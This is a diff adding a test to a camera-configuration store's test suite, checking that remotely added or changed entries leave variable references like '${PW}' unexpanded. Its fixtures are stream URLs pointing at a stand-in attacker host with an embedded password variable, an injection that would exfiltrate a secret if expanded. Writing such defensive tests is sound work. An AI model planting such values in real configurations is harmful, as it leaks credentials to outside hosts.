@@ -97,6 +97,18 @@ suite('changes kept in a cameras file', () => {
     assert.equal(await readFile(path, 'utf8'), theirs);
   });
 
+  test('what is added or changed from afar cannot name variables', async (t) => {
+    const { store } = await fileIn(t);
+    const input = 'rtsp://evil.example/${PW}';
+    const added = await store.edit({ kind: 'add', settings: { id: 'b', input, outputs: ['udp://1.2.3.4:5/${PW}'] } });
+    assert.deepEqual([added.settings.input, added.settings.outputs], [input, ['udp://1.2.3.4:5/${PW}']]);
+    await added.write();
+    const changed = await store.edit({ kind: 'change', id: 'gate', change: { input } });
+    assert.equal(changed.settings.input, input);
+    await changed.write();
+    assert.equal((await store.edit({ kind: 'remove', id: 'b' })).settings.input, input);
+  });
+
   test('a camera that is an alias is changed by hand', async (t) => {
     const { store } = await fileIn(t, 'cameras:\n  a: &a { input: rtsp://h/x }\n  b: *a\n');
     await assert.rejects(store.edit({ kind: 'change', id: 'b', change: { crf: 3 } }), { code: 'CONFIG_INVALID' });
